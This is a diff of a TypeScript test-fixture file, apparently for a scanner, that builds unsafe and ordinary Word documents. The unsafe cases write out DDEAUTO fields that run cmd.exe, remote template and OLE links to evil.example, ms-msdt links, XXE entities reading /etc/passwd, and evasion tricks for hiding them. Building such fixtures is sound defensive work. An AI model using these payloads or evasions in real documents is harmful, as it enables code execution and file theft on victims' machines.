@@ -1,9 +1,9 @@
 import { gzipSync } from 'node:zlib';
 import {
   contentTypes,
+  createOldOfficeFile,
   docx,
   officeRelationships,
-  oldOffice,
   relationships,
   rootRelationships,
   wordPart,
@@ -11,20 +11,23 @@ import {
   zip,
 } from './files.ts';
 
-type Case = [name: string, bytes: Buffer];
+type WordCase = [name: string, bytes: Buffer];
 
 const documentRelationships = 'word/_rels/document.xml.rels';
 
-/** Makes a relationship: its kind, its target, and whether it is marked external. */
-function pointing(kind: string, target: string, mode = 'External', of = documentRelationships) {
+function createRelationship(
+  kind: string,
+  target: string,
+  mode = 'External',
+  of = documentRelationships,
+) {
   const type = `${officeRelationships}/${kind}`;
   return docx([
     relationships(of, `Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}`),
   ]);
 }
 
-/** Makes a package with the given types and main part. */
-const packageWith = (more: string, parts: ZipPart[]) =>
+const createPackage = (more: string, parts: ZipPart[]) =>
   zip([
     contentTypes(undefined, more),
     rootRelationships(),
@@ -32,52 +35,50 @@ const packageWith = (more: string, parts: ZipPart[]) =>
     ...parts,
   ]);
 
-const word = (name: string) =>
+const createWordName = (name: string) =>
   `application/vnd.openxmlformats-officedocument.wordprocessingml.${name}+xml`;
-const override = (part: string, type: string) =>
+const createOverride = (part: string, type: string) =>
   `<Override PartName="${part}" ContentType="${type}"/>`;
 
-const run = (inside: string) => `<w:r>${inside}</w:r>`;
-const character = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
-const instruction = (text: string) =>
-  run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
-const field = (...runs: string[]) =>
-  `<w:p>${character('begin')}${runs.join('')}${character('separate')}${run('<w:t>1</w:t>')}${character('end')}</w:p>`;
+const createRun = (inside: string) => `<w:r>${inside}</w:r>`;
+const createFieldCharacter = (type: string) => createRun(`<w:fldChar w:fldCharType="${type}"/>`);
+const createInstruction = (text: string) =>
+  createRun(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
+const createField = (...runs: string[]) =>
+  `<w:p>${createFieldCharacter('begin')}${runs.join('')}${createFieldCharacter('separate')}${createRun('<w:t>1</w:t>')}${createFieldCharacter('end')}</w:p>`;
 
-/** Makes a document with this body. */
-const documentOf = (body: string) =>
+const createDocument = (body: string) =>
   zip([contentTypes(), rootRelationships(), wordPart('word/document.xml', body)]);
 
-/** Adds a part beside the document, such as a header. */
-function partWith(root: string, body: string): Buffer {
+function createPart(root: string, body: string): Buffer {
   const kinds: Record<string, string> = {
     hdr: 'header',
     ftr: 'footer',
     glossaryDocument: 'document.glossary',
   };
   const part = kinds[root] ?? root;
-  return packageWith(override(`/word/${root}.xml`, word(part)), [
+  return createPackage(createOverride(`/word/${root}.xml`, createWordName(part)), [
     wordPart(`word/${root}.xml`, body, root),
   ]);
 }
 
-const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
-/** Makes a document with a drawing among its pictures. */
-function drawing(inside: string, before = '', extension = 'svg'): Buffer {
+const ddeInstruction = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
+/** The document contains the drawing among its pictures. */
+function createDrawing(inside: string, before = '', extension = 'svg'): Buffer {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
   const type = '<Default Extension="svg" ContentType="image/svg+xml"/>';
-  return packageWith(type, [
+  return createPackage(type, [
     { name: `word/media/image1.${extension}`, content: `<?xml version="1.0"?>${before}${svg}` },
   ]);
 }
 
 const vbaType = 'application/vnd.ms-office.vbaProject';
-const asReferences = (text: string) =>
+const toCharacterReferences = (text: string) =>
   Array.from(text, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
-const utf16 = (text: string) =>
+const encodeUtf16 = (text: string) =>
   Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
 
-const rewritten = (name: string, change: (text: string) => Buffer | string) => {
+const rewritePart = (name: string, change: (text: string) => Buffer | string) => {
   const parts = [contentTypes(), rootRelationships(), wordPart('word/document.xml', '<w:body/>')];
   return zip(
     parts.map((part) =>
@@ -86,24 +87,25 @@ const rewritten = (name: string, change: (text: string) => Buffer | string) => {
   );
 };
 
-const foreign = 'xmlns:x="urn:x"';
-const compatibility = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
-/** Makes a DDE field with this between two of its letters, which some programs leave out. */
-const ddeAround = (between: string) =>
-  documentOf(
-    field(instruction('DD'), between, instruction('EAUTO cmd')).replace(
+const foreignNamespace = 'xmlns:x="urn:x"';
+const compatibilityNamespace =
+  'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
+/** Some programs leave out what is between the two parts of the name of a DDE field. */
+const createSplitDde = (between: string) =>
+  createDocument(
+    createField(createInstruction('DD'), between, createInstruction('EAUTO cmd')).replace(
       '<w:p>',
-      `<w:p ${foreign} ${compatibility}>`,
+      `<w:p ${foreignNamespace} ${compatibilityNamespace}>`,
     ),
   );
-/** Another namespace hides these, and Word leaves them out or not. */
-const hiddenByNamespaces: Case[] = [
+/** These dangers are in another namespace, and some versions of Word recognize them. */
+const hiddenByNamespaces: WordCase[] = [
   [
     'template behind a foreign target',
     docx([
       relationships(
         documentRelationships,
-        `${foreign} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
+        `${foreignNamespace} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
       ),
     ]),
   ],
@@ -112,7 +114,7 @@ const hiddenByNamespaces: Case[] = [
     docx([
       relationships(
         documentRelationships,
-        `${foreign} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
+        `${foreignNamespace} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
       ),
     ]),
   ],
@@ -121,118 +123,160 @@ const hiddenByNamespaces: Case[] = [
     docx([
       relationships(
         documentRelationships,
-        `${foreign} Type="${officeRelationships}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
+        `${foreignNamespace} Type="${officeRelationships}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
       ),
     ]),
   ],
   [
     'foreign element among the relationships',
-    rewritten('_rels/.rels', (text) =>
-      text.replace('</Relationships>', `<x:Relationship ${foreign}/></Relationships>`),
+    rewritePart('_rels/.rels', (text) =>
+      text.replace('</Relationships>', `<x:Relationship ${foreignNamespace}/></Relationships>`),
     ),
   ],
   [
     'macros behind a foreign type',
-    packageWith(
-      `<Override ${foreign} PartName="/word/a.bin" ContentType="${vbaType}" x:ContentType="image/png"/>`,
+    createPackage(
+      `<Override ${foreignNamespace} PartName="/word/a.bin" ContentType="${vbaType}" x:ContentType="image/png"/>`,
       [{ name: 'word/a.bin', content: 'x' }],
     ),
   ],
   [
     'macros behind a second type',
-    packageWith(override('/word/a.bin', vbaType) + override('/word/a.bin', 'image/png'), [
-      { name: 'word/a.bin', content: 'x' },
-    ]),
+    createPackage(
+      createOverride('/word/a.bin', vbaType) + createOverride('/word/a.bin', 'image/png'),
+      [{ name: 'word/a.bin', content: 'x' }],
+    ),
   ],
   [
     'DDE behind a foreign instruction',
-    documentOf(`<w:p ${foreign}><w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE"/></w:p>`),
+    createDocument(
+      `<w:p ${foreignNamespace}><w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE"/></w:p>`,
+    ),
   ],
   [
     'DDE before a foreign instruction',
-    documentOf(`<w:p ${foreign}><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>`),
+    createDocument(
+      `<w:p ${foreignNamespace}><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>`,
+    ),
   ],
   [
     'picture of a shape behind a foreign one',
-    documentOf(
-      `<w:p ${foreign}><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a" x:src="cid:a"/></w:p>`,
+    createDocument(
+      `<w:p ${foreignNamespace}><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a" x:src="cid:a"/></w:p>`,
     ),
   ],
-  ['DDE cut by a foreign run', ddeAround('<x:r><w:r><w:instrText>ZZ</w:instrText></w:r></x:r>')],
-  ['DDE cut by foreign text', ddeAround(run('<x:instrText>ZZ</x:instrText>'))],
-  ['DDE cut by a foreign end', ddeAround(run('<x:fldChar x:fldCharType="end"/>'))],
-  ['DDE cut by a foreign type', ddeAround(run('<w:fldChar fldCharType="begin"/>'))],
+  [
+    'DDE cut by a foreign run',
+    createSplitDde('<x:r><w:r><w:instrText>ZZ</w:instrText></w:r></x:r>'),
+  ],
+  ['DDE cut by foreign text', createSplitDde(createRun('<x:instrText>ZZ</x:instrText>'))],
+  ['DDE cut by a foreign end', createSplitDde(createRun('<x:fldChar x:fldCharType="end"/>'))],
+  ['DDE cut by a foreign type', createSplitDde(createRun('<w:fldChar fldCharType="begin"/>'))],
   [
     'DDE cut by another way to show it',
-    ddeAround(
-      `<mc:AlternateContent><mc:Choice Requires="w"><w:r/></mc:Choice><mc:Fallback>${instruction('ZZ')}</mc:Fallback></mc:AlternateContent>`,
+    createSplitDde(
+      `<mc:AlternateContent><mc:Choice Requires="w"><w:r/></mc:Choice><mc:Fallback>${createInstruction('ZZ')}</mc:Fallback></mc:AlternateContent>`,
     ),
   ],
   [
     'DDE cut by a way that nobody knows',
-    ddeAround(
-      `<mc:AlternateContent><mc:Choice Requires="x">${instruction('ZZ')}</mc:Choice></mc:AlternateContent>`,
+    createSplitDde(
+      `<mc:AlternateContent><mc:Choice Requires="x">${createInstruction('ZZ')}</mc:Choice></mc:AlternateContent>`,
     ),
   ],
   [
     'DDE cut by another field left out',
-    ddeAround(`<x:r>${character('end')}${character('begin')}</x:r>`),
+    createSplitDde(`<x:r>${createFieldCharacter('end')}${createFieldCharacter('begin')}</x:r>`),
   ],
   [
     'DDE cut by deleted text',
-    ddeAround(`<w:del w:id="1">${run('<w:delInstrText>ZZ</w:delInstrText>')}</w:del>`),
+    createSplitDde(`<w:del w:id="1">${createRun('<w:delInstrText>ZZ</w:delInstrText>')}</w:del>`),
   ],
-  ['DDE cut by a deleted run', ddeAround(`<w:del w:id="1">${instruction('ZZ')}</w:del>`)],
+  [
+    'DDE cut by a deleted run',
+    createSplitDde(`<w:del w:id="1">${createInstruction('ZZ')}</w:del>`),
+  ],
   [
     'DDE partly of ordinary text',
-    documentOf(field(run('<w:t>DDE</w:t>'), instruction('AUTO cmd /c calc'))),
+    createDocument(createField(createRun('<w:t>DDE</w:t>'), createInstruction('AUTO cmd /c calc'))),
   ],
   [
     'DDE around an element',
-    documentOf(field(run(`<w:instrText>DD<x:foo ${foreign}/>EAUTO cmd</w:instrText>`))),
+    createDocument(
+      createField(createRun(`<w:instrText>DD<x:foo ${foreignNamespace}/>EAUTO cmd</w:instrText>`)),
+    ),
   ],
   [
     'DDE by a simple QUOTE',
-    documentOf(
-      field(
+    createDocument(
+      createField(
         '<w:fldSimple w:instr="QUOTE 68 68 69"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>',
-        instruction(' cmd /c calc'),
+        createInstruction(' cmd /c calc'),
       ),
     ),
   ],
 ];
 
-/** Word would load, run or start these. */
-export const unsafeWord: Case[] = [
+/** Word would load, run or start something from these documents. */
+export const unsafeWord: WordCase[] = [
   ...hiddenByNamespaces,
-  ['template by http', pointing('attachedTemplate', 'http://evil.example/t.dotm')],
-  ['template by HTTPS', pointing('attachedTemplate', 'HTTPS://evil.example/t.dotm')],
-  ['template on a share', pointing('attachedTemplate', '\\\\evil.example\\share\\t.dotm')],
-  ['template on a share, slashes', pointing('attachedTemplate', '//evil.example/share/t.dotm')],
-  ['template on a share, mixed', pointing('attachedTemplate', '/\\evil.example/t.dotm')],
-  ['template by file host', pointing('attachedTemplate', 'file://evil.example/t.dotm')],
-  ['template by four slashes', pointing('attachedTemplate', 'file:////evil.example/t.dotm')],
+  ['template by http', createRelationship('attachedTemplate', 'http://evil.example/t.dotm')],
+  ['template by HTTPS', createRelationship('attachedTemplate', 'HTTPS://evil.example/t.dotm')],
+  [
+    'template on a share',
+    createRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotm'),
+  ],
+  [
+    'template on a share, slashes',
+    createRelationship('attachedTemplate', '//evil.example/share/t.dotm'),
+  ],
+  ['template on a share, mixed', createRelationship('attachedTemplate', '/\\evil.example/t.dotm')],
+  ['template by file host', createRelationship('attachedTemplate', 'file://evil.example/t.dotm')],
+  [
+    'template by four slashes',
+    createRelationship('attachedTemplate', 'file:////evil.example/t.dotm'),
+  ],
   [
     'template by file and backslashes',
-    pointing('attachedTemplate', 'file:\\\\evil.example\\t.dotm'),
+    createRelationship('attachedTemplate', 'file:\\\\evil.example\\t.dotm'),
   ],
-  ['template by percent signs', pointing('attachedTemplate', '%68ttp://evil.example/t.dotm')],
-  ['template after blanks', pointing('attachedTemplate', '  \thttp://evil.example/t.dotm')],
-  ['template by references', pointing('attachedTemplate', asReferences('http://evil.example/t'))],
-  ['template without a mode', pointing('attachedTemplate', 'http://evil.example/t.dotm', '')],
-  ['template with a small mode', pointing('attachedTemplate', 'http://evil.example', 'external')],
+  [
+    'template by percent signs',
+    createRelationship('attachedTemplate', '%68ttp://evil.example/t.dotm'),
+  ],
+  [
+    'template after blanks',
+    createRelationship('attachedTemplate', '  \thttp://evil.example/t.dotm'),
+  ],
+  [
+    'template by references',
+    createRelationship('attachedTemplate', toCharacterReferences('http://evil.example/t')),
+  ],
+  [
+    'template without a mode',
+    createRelationship('attachedTemplate', 'http://evil.example/t.dotm', ''),
+  ],
+  [
+    'template with a small mode',
+    createRelationship('attachedTemplate', 'http://evil.example', 'external'),
+  ],
   [
     'template of the settings',
-    pointing('attachedTemplate', 'http://evil.example', 'External', 'word/_rels/settings.xml.rels'),
+    createRelationship(
+      'attachedTemplate',
+      'http://evil.example',
+      'External',
+      'word/_rels/settings.xml.rels',
+    ),
   ],
-  ['OLE by http', pointing('oleObject', 'http://evil.example/a.hta')],
+  ['OLE by http', createRelationship('oleObject', 'http://evil.example/a.hta')],
   [
     'OLE by mhtml',
-    pointing('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example'),
+    createRelationship('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example'),
   ],
-  ['OLE by ms-msdt', pointing('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
-  ['search-ms', pointing('hyperlink', 'search-ms:query=a')],
-  ['link to a share', pointing('hyperlink', '\\\\evil.example\\share')],
+  ['OLE by ms-msdt', createRelationship('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
+  ['search-ms', createRelationship('hyperlink', 'search-ms:query=a')],
+  ['link to a share', createRelationship('hyperlink', '\\\\evil.example\\share')],
   ...[
     'javascript:alert(1)',
     'VBScript:a',
@@ -247,12 +291,12 @@ export const unsafeWord: Case[] = [
     'shell:startup',
     'file:///C:/Windows/System32/calc.exe',
     'C:\\Windows\\System32\\calc.exe',
-  ].map((target): Case => [`link to ${target}`, pointing('hyperlink', target)]),
-  ['frame', pointing('frame', 'http://evil.example/a.htm')],
-  ['subdocument', pointing('subDocument', 'file://evil.example/a.docx')],
-  ['linked picture', pointing('image', 'http://evil.example/a.png')],
-  ['linked picture on a share', pointing('image', 'file://evil.example/a.png')],
-  ['linked picture of the machine', pointing('image', 'file:///etc/passwd')],
+  ].map((target): WordCase => [`link to ${target}`, createRelationship('hyperlink', target)]),
+  ['frame', createRelationship('frame', 'http://evil.example/a.htm')],
+  ['subdocument', createRelationship('subDocument', 'file://evil.example/a.docx')],
+  ['linked picture', createRelationship('image', 'http://evil.example/a.png')],
+  ['linked picture on a share', createRelationship('image', 'file://evil.example/a.png')],
+  ['linked picture of the machine', createRelationship('image', 'file:///etc/passwd')],
   ...(
     [
       ['a picture of the machine', '<image xlink:href="file:///etc/passwd"/>'],
@@ -265,28 +309,31 @@ export const unsafeWord: Case[] = [
       ['a style from elsewhere', '<style>@im<!-- -->port "https://evil.example/a.css";</style>'],
       ['a style in other letters', '<style>a{fill:u\\72l(https://evil.example/a)}</style>'],
     ] as const
-  ).map(([what, drawn]): Case => [`drawing with ${what}`, drawing(drawn)]),
+  ).map(([what, drawn]): WordCase => [`drawing with ${what}`, createDrawing(drawn)]),
   [
     'drawing with a document type',
-    drawing('', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
+    createDrawing('', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
   ],
   [
     'drawing with a style sheet',
-    drawing('', '<?xml-stylesheet href="https://evil.example/a.css"?>'),
+    createDrawing('', '<?xml-stylesheet href="https://evil.example/a.css"?>'),
   ],
-  ['drawing that is called a PNG', drawing('<image href="file:///etc/passwd"/>', '', 'png')],
-  ['text of another file', documentOf(field(instruction('INCLUDETEXT "C:\\\\a.docx"')))],
+  ['drawing that is called a PNG', createDrawing('<image href="file:///etc/passwd"/>', '', 'png')],
+  [
+    'text of another file',
+    createDocument(createField(createInstruction('INCLUDETEXT "C:\\\\a.docx"'))),
+  ],
   [
     'shape of the machine',
-    documentOf(
+    createDocument(
       '<w:p><w:pict><v:fill xmlns:v="urn:schemas-microsoft-com:vml" src="C:\\a.png"/></w:pict></w:p>',
     ),
   ],
-  ['source of a mail merge', pointing('mailMergeSource', 'file:///C:/list.xlsx')],
-  ['unknown kind outside', pointing('somethingNew', 'http://evil.example/')],
-  ['chunk of a page', pointing('aFChunk', 'a.mht', '')],
-  ['control', pointing('control', 'activeX/activeX1.xml', '')],
-  ['embedded package', pointing('package', 'embeddings/a.docx', '')],
+  ['source of a mail merge', createRelationship('mailMergeSource', 'file:///C:/list.xlsx')],
+  ['unknown kind outside', createRelationship('somethingNew', 'http://evil.example/')],
+  ['chunk of a page', createRelationship('aFChunk', 'a.mht', '')],
+  ['control', createRelationship('control', 'activeX/activeX1.xml', '')],
+  ['embedded package', createRelationship('package', 'embeddings/a.docx', '')],
   [
     'OLE of the strict kind',
     docx([
@@ -298,69 +345,93 @@ export const unsafeWord: Case[] = [
   ],
   [
     'embedded part',
-    packageWith(
-      override('/word/embeddings/a.bin', 'application/vnd.openxmlformats-officedocument.oleObject'),
+    createPackage(
+      createOverride(
+        '/word/embeddings/a.bin',
+        'application/vnd.openxmlformats-officedocument.oleObject',
+      ),
       [{ name: 'word/embeddings/a.bin', content: 'x' }],
     ),
   ],
   [
     'macros by references',
-    packageWith(`<Override PartName="/word/a.bin" ContentType="${asReferences(vbaType)}"/>`, [
-      { name: 'word/a.bin', content: 'x' },
-    ]),
+    createPackage(
+      `<Override PartName="/word/a.bin" ContentType="${toCharacterReferences(vbaType)}"/>`,
+      [{ name: 'word/a.bin', content: 'x' }],
+    ),
   ],
   [
     'macros in capitals',
-    packageWith(override('/word/a.bin', vbaType.toUpperCase()), [
+    createPackage(createOverride('/word/a.bin', vbaType.toUpperCase()), [
       { name: 'word/a.bin', content: 'x' },
     ]),
   ],
   ['macros by name', docx([{ name: 'word/vba%50roject.bin', content: 'x' }])],
-  ['macros by relationship', pointing('vbaProject', 'a.bin', '')],
+  ['macros by relationship', createRelationship('vbaProject', 'a.bin', '')],
   [
     'ActiveX part',
-    packageWith(override('/word/a.xml', 'application/vnd.ms-office.activeX+xml'), [
+    createPackage(createOverride('/word/a.xml', 'application/vnd.ms-office.activeX+xml'), [
       { name: 'word/a.xml', content: '<a/>' },
     ]),
   ],
   ['program without a type', docx([{ name: 'word/a', content: 'MZ\x90' }])],
   [
     'page as a part',
-    packageWith(override('/word/a.htm', 'text/html'), [{ name: 'word/a.htm', content: '<html/>' }]),
+    createPackage(createOverride('/word/a.htm', 'text/html'), [
+      { name: 'word/a.htm', content: '<html/>' },
+    ]),
   ],
-  ['DDE', documentOf(field(instruction(dde)))],
-  ['DDE in small letters', documentOf(field(instruction(dde.toLowerCase())))],
+  ['DDE', createDocument(createField(createInstruction(ddeInstruction)))],
+  [
+    'DDE in small letters',
+    createDocument(createField(createInstruction(ddeInstruction.toLowerCase()))),
+  ],
   [
     'DDE cut into runs',
-    documentOf(field(...Array.from('DDEAUTO', (sign) => instruction(sign)), instruction(' cmd'))),
+    createDocument(
+      createField(
+        ...Array.from('DDEAUTO', (sign) => createInstruction(sign)),
+        createInstruction(' cmd'),
+      ),
+    ),
   ],
   [
     'DDE in a simple field',
-    documentOf(`<w:p><w:fldSimple w:instr=" ${dde.replaceAll('"', '&quot;')} "/></w:p>`),
+    createDocument(
+      `<w:p><w:fldSimple w:instr=" ${ddeInstruction.replaceAll('"', '&quot;')} "/></w:p>`,
+    ),
   ],
-  ['DDE by references', documentOf(field(instruction(asReferences('DDEAUTO cmd'))))],
+  [
+    'DDE by references',
+    createDocument(createField(createInstruction(toCharacterReferences('DDEAUTO cmd')))),
+  ],
   [
     'DDE by QUOTE',
-    documentOf(
-      field(
-        `${character('begin')}${instruction('QUOTE 68 68 69 65 85 84 79')}${character('separate')}${run('<w:t>DDEAUTO</w:t>')}${character('end')}`,
-        instruction(' cmd /c calc'),
+    createDocument(
+      createField(
+        `${createFieldCharacter('begin')}${createInstruction('QUOTE 68 68 69 65 85 84 79')}${createFieldCharacter('separate')}${createRun('<w:t>DDEAUTO</w:t>')}${createFieldCharacter('end')}`,
+        createInstruction(' cmd /c calc'),
       ),
     ),
   ],
   [
     'DDE inside another field',
-    documentOf(
-      field(
-        instruction('IF 1 = 1 "'),
-        character('begin'),
-        instruction(dde),
-        character('end'),
-        instruction('"'),
+    createDocument(
+      createField(
+        createInstruction('IF 1 = 1 "'),
+        createFieldCharacter('begin'),
+        createInstruction(ddeInstruction),
+        createFieldCharacter('end'),
+        createInstruction('"'),
       ),
     ),
   ],
-  ['DDE that never ends', documentOf(`<w:p>${character('begin')}${instruction(dde)}</w:p>`)],
+  [
+    'DDE that never ends',
+    createDocument(
+      `<w:p>${createFieldCharacter('begin')}${createInstruction(ddeInstruction)}</w:p>`,
+    ),
+  ],
   [
     'DDE with another prefix',
     zip([
@@ -374,22 +445,38 @@ export const unsafeWord: Case[] = [
     ]),
   ],
   ...['hdr', 'ftr', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map(
-    (part): Case => [`DDE in ${part}`, partWith(part, field(instruction(dde)))],
+    (part): WordCase => [
+      `DDE in ${part}`,
+      createPart(part, createField(createInstruction(ddeInstruction))),
+    ],
   ),
   [
     'picture field',
-    documentOf(field(instruction('INCLUDEPICTURE "http://evil.example/a.png" \\d'))),
+    createDocument(
+      createField(createInstruction('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
+    ),
   ],
   [
     'text field on a share',
-    documentOf(field(instruction('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"'))),
+    createDocument(createField(createInstruction('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"'))),
   ],
-  ['link field', documentOf(field(instruction('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" a')))],
-  ['database field', documentOf(field(instruction('DATABASE \\d "C:\\\\a.mdb" \\c "x"')))],
-  ['link field to a share', documentOf(field(instruction('HYPERLINK "file://evil.example/a"')))],
+  [
+    'link field',
+    createDocument(
+      createField(createInstruction('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" a')),
+    ),
+  ],
+  [
+    'database field',
+    createDocument(createField(createInstruction('DATABASE \\d "C:\\\\a.mdb" \\c "x"'))),
+  ],
+  [
+    'link field to a share',
+    createDocument(createField(createInstruction('HYPERLINK "file://evil.example/a"'))),
+  ],
   [
     'query of a mail merge',
-    packageWith(override('/word/settings.xml', word('settings')), [
+    createPackage(createOverride('/word/settings.xml', createWordName('settings')), [
       wordPart(
         'word/settings.xml',
         '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>',
@@ -399,28 +486,30 @@ export const unsafeWord: Case[] = [
   ],
   [
     'picture of a shape',
-    documentOf(
+    createDocument(
       '<w:p><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\evil.example\\a.png"/></v:shape></w:pict></w:p>',
     ),
   ],
   [
     'document type',
-    rewritten('word/document.xml', (text) =>
+    rewritePart('word/document.xml', (text) =>
       text.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>'),
     ),
   ],
   [
     'entity',
-    rewritten('word/document.xml', (text) => text.replace('<w:body/>', '<w:body>&evil;</w:body>')),
+    rewritePart('word/document.xml', (text) =>
+      text.replace('<w:body/>', '<w:body>&evil;</w:body>'),
+    ),
   ],
   [
     'document type of the types',
-    rewritten('[Content_Types].xml', (text) =>
+    rewritePart('[Content_Types].xml', (text) =>
       text.replace('?>', '?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'),
     ),
   ],
-  ['UTF-7', rewritten('word/document.xml', (text) => text.replace('UTF-8', 'UTF-7'))],
-  ['deep', documentOf('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))],
+  ['UTF-7', rewritePart('word/document.xml', (text) => text.replace('UTF-8', 'UTF-7'))],
+  ['deep', createDocument('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))],
   ['two parts of one name', docx([wordPart('word/document.xml', '<w:body/>')])],
   ['two parts of one name but for case', docx([wordPart('word/DOCUMENT.XML', '<w:body/>')])],
   [
@@ -434,8 +523,8 @@ export const unsafeWord: Case[] = [
       rootRelationships(),
       {
         name: 'word/document.xml',
-        content: utf16(
-          `<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="x">${field(instruction(dde))}</w:document>`,
+        content: encodeUtf16(
+          `<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="x">${createField(createInstruction(ddeInstruction))}</w:document>`,
         ),
       },
     ]),
@@ -445,7 +534,7 @@ export const unsafeWord: Case[] = [
     docx([
       {
         name: documentRelationships,
-        content: utf16(
+        content: encodeUtf16(
           `<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="a" Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
         ),
       },
@@ -454,26 +543,44 @@ export const unsafeWord: Case[] = [
 ];
 
 const oldWord = { '/WordDocument': 'text'.repeat(2_000) };
-export const unsafeOldWord: Case[] = [
-  ['storage MACROS', oldOffice({ ...oldWord, '/MACROS/VBA/dir': 'code' })],
-  ['storage _vba_project_cur', oldOffice({ ...oldWord, '/_vba_project_cur/VBA/dir': 'code' })],
-  ['macros deep inside', oldOffice({ ...oldWord, '/ObjectPool/a/macros/VBA/dir': 'code' })],
-  ['package', oldOffice({ ...oldWord, '/ObjectPool/a/\u0001Ole10Native': 'MZ' })],
-  ['embedded object', oldOffice({ ...oldWord, '/ObjectPool/_1234567890/\u0003ObjInfo': 'x' })],
-  ['equation', oldOffice({ ...oldWord, '/a/Equation Native': 'x' })],
-  ['DDE field', oldOffice({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` })],
+export const unsafeOldWord: WordCase[] = [
+  ['storage MACROS', createOldOfficeFile({ ...oldWord, '/MACROS/VBA/dir': 'code' })],
+  [
+    'storage _vba_project_cur',
+    createOldOfficeFile({ ...oldWord, '/_vba_project_cur/VBA/dir': 'code' }),
+  ],
+  [
+    'macros deep inside',
+    createOldOfficeFile({ ...oldWord, '/ObjectPool/a/macros/VBA/dir': 'code' }),
+  ],
+  ['package', createOldOfficeFile({ ...oldWord, '/ObjectPool/a/\u0001Ole10Native': 'MZ' })],
+  [
+    'embedded object',
+    createOldOfficeFile({ ...oldWord, '/ObjectPool/_1234567890/\u0003ObjInfo': 'x' }),
+  ],
+  ['equation', createOldOfficeFile({ ...oldWord, '/a/Equation Native': 'x' })],
+  [
+    'DDE field',
+    createOldOfficeFile({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` }),
+  ],
 ];
 
-/** These only ask, stay on the machine, or are ordinary in another spelling. */
-export const ordinaryWord: Case[] = [
-  ['template of the machine', pointing('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')],
-  ['template by name', pointing('attachedTemplate', 'Normal.dotm')],
-  ['template of a Mac', pointing('attachedTemplate', '/Users/a/Library/Normal.dotm')],
-  ['template on localhost', pointing('attachedTemplate', 'file://localhost/Users/a/Normal.dotm')],
-  ['link', pointing('hyperlink', 'https://www.canada.ca/a?b=c&amp;d=%20e')],
-  ['link to write', pointing('hyperlink', 'mailto:a@example.ca?subject=A: b')],
-  ['link to a file', pointing('hyperlink', 'file:///C:/Users/a/b.docx')],
-  ['link without a scheme', pointing('hyperlink', 'www.example.ca')],
+/** These documents only ask, stay on the machine, or are ordinary documents in another spelling. */
+export const ordinaryWord: WordCase[] = [
+  [
+    'template of the machine',
+    createRelationship('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
+  ],
+  ['template by name', createRelationship('attachedTemplate', 'Normal.dotm')],
+  ['template of a Mac', createRelationship('attachedTemplate', '/Users/a/Library/Normal.dotm')],
+  [
+    'template on localhost',
+    createRelationship('attachedTemplate', 'file://localhost/Users/a/Normal.dotm'),
+  ],
+  ['link', createRelationship('hyperlink', 'https://www.canada.ca/a?b=c&amp;d=%20e')],
+  ['link to write', createRelationship('hyperlink', 'mailto:a@example.ca?subject=A: b')],
+  ['link to a file', createRelationship('hyperlink', 'file:///C:/Users/a/b.docx')],
+  ['link without a scheme', createRelationship('hyperlink', 'www.example.ca')],
   ...[
     'x-apple-data-detectors://0',
     'blocked::mailto:a@example.ca',
